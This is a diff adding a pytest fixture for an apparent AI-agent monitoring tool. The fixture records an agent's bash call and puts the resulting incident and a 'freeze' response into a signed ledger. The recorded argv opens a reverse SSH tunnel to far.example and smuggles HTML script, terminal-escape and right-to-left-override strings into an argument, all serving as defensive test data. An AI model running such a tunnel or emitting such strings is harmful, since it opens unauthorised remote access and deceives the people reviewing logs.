@@ -69,3 +69,54 @@ def script(workdir: Path) -> Callable[..., list[str]]:
         return [sys.executable, "-IS", name]
 
     return write
+
+
+@pytest.fixture
+def told_home(tmp_path: Path) -> tuple[Path, str]:
+    """A home whose ledger holds one tunnel with hostile words, struck; and the incident's name."""
+    from vigiles.detectors.registry import Detectors
+    from vigiles.incidents.correlate import Correlator
+    from vigiles.ledger.book import Book
+    from vigiles.ledger.home import Home
+    from vigiles.ledger.key import load_or_make
+    from vigiles.ledger.store import Store
+    from vigiles.ledger.wire import row_of
+    from vigiles.model.act import Act, ProcessSpec
+    from vigiles.model.attribution import Attribution
+    from vigiles.model.coordinates import Coordinates
+    from vigiles.model.observation.process import ProcessStart
+    from vigiles.model.response import Response
+    from vigiles.model.stamp import Stamp
+
+    def head(number: int) -> dict[str, Any]:
+        us = 1_700_000_000_000_000 + number * 10_000
+        where = Coordinates(run="run-1", episode="ep-1", turn=1, call=1)
+        return {"id": f"rec-{number}", "at": Stamp(wall_us=us, mono_us=us, boot="b"), "coordinates": where}
+
+    argv = ["ssh", "-NR", "9022:localhost:22", "far.example", "</pre><script>\x1b]0;owned\x07\u202e"]
+    act = Act(**head(1), principal="agent", kind="process", tool="bash", process=ProcessSpec(argv=argv))
+    seen = {"sensor": "notifier", "attribution": Attribution(grade="exact", call=1, methods=["listener"])}
+    start = ProcessStart(**head(2), **seen, pid=7, ppid=1, via="launch", exe="/usr/bin/ssh", argv=argv)
+    detectors, correlator = Detectors(), Correlator()
+    written: list[Any] = []
+    for record in (act, start):
+        findings = detectors.feed(record)
+        versions = [version for finding in findings if (version := correlator.feed(finding)) is not None]
+        written += [record, *findings, *versions]
+    incident = written[-1]
+    response = Response(
+        **head(9),
+        kind="freeze",
+        act="act-1",
+        incident=incident.incident,
+        target="episode ep-1",
+        outcome="done",
+        took_us=9000,
+    )
+    home = Home(tmp_path / "told")
+    home.prepare()
+    book = Book(Store(home.database), load_or_make(home))
+    book.append([row_of(record) for record in [*written, response, correlator.responded(response)]])
+    book.sign()
+    book.close()
+    return home.path, incident.incident
